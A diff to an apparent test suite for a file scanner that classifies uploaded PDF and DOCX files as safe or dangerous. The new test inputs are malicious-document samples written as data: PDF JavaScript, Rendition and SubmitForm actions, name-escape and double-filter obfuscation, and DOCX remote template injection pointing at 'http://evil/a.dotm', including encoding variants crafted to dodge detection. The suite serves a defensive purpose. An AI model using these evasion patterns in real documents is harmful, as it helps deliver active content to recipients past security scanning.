@@ -38,9 +38,30 @@ def docx(**parts: bytes) -> bytes:
     return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"} | parts)
 
 
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+ELSEWHERE = "http://evil/a.dotm"
+
+
+def related(attributes: str, *, encoding: str = "utf-8") -> bytes:
+    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
+    listed = f'<Relationships xmlns="{namespace}"><Relationship Id="a" {attributes}/></Relationships>'
+    return docx(**{"word/_rels/settings.xml.rels": listed.encode(encoding)})
+
+
 def stream(objects: bytes, *, told: bytes = b"/Type /ObjStm /Filter /FlateDecode") -> bytes:
     packed = zlib.compress(objects)
     return b"%PDF-1.7\n5 0 obj <<" + told + b">> stream\n" + packed + b"\nendstream endobj\n%%EOF"
+
+
+def hexed(objects: bytes) -> bytes:
+    """Objects packed so that one must undo two filters to read them."""
+    packed = zlib.compress(objects).hex().encode() + b">"
+    told = b"6 0 obj <</Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]>> stream\n"
+    return told + packed + b"\nendstream endobj\n"
+
+
+def pictured(told: bytes) -> bytes:
+    return QUIET + b"5 0 obj <</Subtype /Image " + told + b">> stream\nx\nendstream endobj\n"
 
 
 def png(width: int, height: int) -> bytes:
@@ -63,6 +84,10 @@ def heic(width: int, height: int) -> bytes:
         (QUIET, PDF),
         (stream(b"1 0 2 10 <</Type /Page>> <</Type /Font>>"), PDF),
         (b"%PDF-1.7\n" + random.Random(7).randbytes(3_000_000), PDF),
+        (QUIET + b"<</S /URI /URI (https://mila.ru)>> /JSX /Renditions", PDF),
+        (stream(b"1 0 0 1 0 0 cm", told=b"/Filter /FlateDecode"), PDF),
+        (pictured(b"/Width 5000 /Height 10000"), PDF),
+        (pictured(b"/Width 50000 /Height 9") + pictured(b"/Height 50000 /Width 9"), PDF),
         (QUIET + b"PK\x05\x06 by chance " + b"x" * 100, PDF),
         (picture("PNG"), PNG),
         (picture("JPEG"), JPEG),
@@ -73,6 +98,10 @@ def heic(width: int, height: int) -> bytes:
         (heic(8064, 6048), "image/heic"),
         (docx(), DOCX),
         (docx(**{"word/media/a.bin": bytes(5_000_000)}), DOCX),
+        (related(f'Type="{OFFICE}hyperlink" Target="https://mila.ru" TargetMode="External"'), DOCX),
+        (related(f'TargetMode="External" Type="{OFFICE}hyperlink" Target="https://mila.ru"'), DOCX),
+        (related(f'Type="{OFFICE}image" Target="media/a.png"'), DOCX),
+        (docx(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"}), DOCX),
         ("АД 120/80\n".encode(), "text/plain"),
     ],
 )
@@ -89,6 +118,25 @@ def test_an_ordinary_file_passes(content: bytes, content_type: str) -> None:
         (QUIET + b"<</Names <</EmbeddedFiles 5 0 R>>>>", PDF, Danger.ACTIVE),
         (QUIET + b"<</Type /EmbeddedFile>>", PDF, Danger.ACTIVE),
         (QUIET + b"/AcroForm <</XFA [(a) 1 0 R]>>", PDF, Danger.ACTIVE),
+        (QUIET + b"<</S/Rendition/OP 0/JS(app.alert(1))>>", PDF, Danger.ACTIVE),
+        (QUIET + b"<</S /Rendition /R 5 0 R>>", PDF, Danger.ACTIVE),
+        (QUIET + b"<</JS 9 0 R>>", PDF, Danger.ACTIVE),
+        (QUIET + b"<</#4a#53 <6170702e>>>", PDF, Danger.ACTIVE),
+        (QUIET + b"<</JS% a comment\n(app.alert(1))>>", PDF, Danger.ACTIVE),
+        (QUIET + b"<</S /ImportData /F (a)>>", PDF, Danger.ACTIVE),
+        (QUIET + b"<</S /GoTo#45 /T 1 0 R>>", PDF, Danger.ACTIVE),
+        (QUIET + b"<</S/SubmitForm/F(http://e.example/)>>", PDF, Danger.ACTIVE),
+        (stream(b"1 0 <</S /Rendition /JS (x)>>"), PDF, Danger.ACTIVE),
+        (stream(b"1 0 0 1 0 0 cm", told=b"/Filter /FlateDecode") + hexed(b"9 0 <</S /JavaScript>>"), PDF,
+         Danger.ENCRYPTED),
+        (hexed(b"9 0 <<>>") + stream(b"1 0 <<>>"), PDF, Danger.ENCRYPTED),
+        (stream(b"1 0 <<>>", told=b"/Type /ObjStm /X (") + hexed(b"9 0 <</S /JavaScript>>"), PDF, Danger.ENCRYPTED),
+        (stream(b"1 0 <<>>") + hexed(b"9 0 <</S /JavaScript>>").replace(b"ObjStm", b"O#62jStm"), PDF,
+         Danger.ENCRYPTED),
+        (pictured(b"/Width 50000 /Height 50000"), PDF, Danger.TOO_MANY_PIXELS),
+        (pictured(b"/Height 50000/W#69dth 1001"), PDF, Danger.TOO_MANY_PIXELS),
+        (pictured(b"/Width 9 /Height 9") + pictured(b"/Width " + b"9" * 6000 + b" /Height 1"), PDF,
+         Danger.TOO_MANY_PIXELS),
         (stream(b"1 0 <</S /JavaScript /JS (x)>>"), PDF, Danger.ACTIVE),
         (stream(b"1 0 <</S /JavaScript>>", told=b"/Type /Obj#53tm"), PDF, Danger.ACTIVE),
         (stream(b"not objects", told=b"/Encrypt 1 0 R /Type /ObjStm"), PDF, Danger.ENCRYPTED),
@@ -115,6 +163,23 @@ def test_an_ordinary_file_passes(content: bytes, content_type: str) -> None:
         (docx(**{"word/x.xml": "<!DOCTYPE a>".encode("utf-16")}), DOCX, Danger.OUTSIDE_REFERENCES),
         (docx(**{"word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                  b'Target="http://evil/a.dotm" TargetMode="External"/>'}), DOCX, Danger.OUTSIDE_REFERENCES),
+        (related(f'TargetMode="External" Target="{ELSEWHERE}" Type="{OFFICE}attachedTemplate"'), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (related(f"Type='{OFFICE}attachedTemplate' Target='{ELSEWHERE}' TargetMode='External'"), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (related(f'Type="{OFFICE}attachedTemplate" Target="{ELSEWHERE}" TargetMode = "External"'), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (related(f'Type="{OFFICE}attached&#84;emplate" Target="{ELSEWHERE}" TargetMode="&#69;xternal"'), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (related(f'TargetMode="External" Type="{OFFICE}attachedTemplate"', encoding="utf-16"), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (related(f'Type="{OFFICE}image" Target="http://evil/p.png" TargetMode="External"'), DOCX,
+         Danger.OUTSIDE_REFERENCES),
+        (related('TargetMode="External" Target="http://evil/p.png"'), DOCX, Danger.OUTSIDE_REFERENCES),
+        (related("TargetMode="), DOCX, Danger.UNREADABLE),
+        (docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), DOCX, Danger.ACTIVE),
+        (docx(**{"xl/embeddings/a.docm": b"PK"}), DOCX, Danger.ACTIVE),
+        (docx(**{"word/activeX/activeX1.xml": b"<a/>"}), DOCX, Danger.ACTIVE),
         (b"PK\3\4 nothing", DOCX, Danger.UNREADABLE),
     ],
 )  # fmt: skip
